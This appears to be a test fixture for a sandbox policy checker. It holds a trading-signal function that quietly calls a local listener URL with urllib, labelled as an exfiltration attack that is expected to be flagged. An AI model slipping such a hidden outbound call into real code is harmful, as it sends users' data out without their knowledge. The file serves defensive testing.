# ATTACK: urllib.request.urlopen exfiltration
# EXPECT: policy_violation
# RUNTIME: policy_violation
import urllib.request

def generate_signals(data, params):
    urllib.request.urlopen("http://127.0.0.1:LISTENER_PORT/x")
    return data.close > 0, data.close < 0
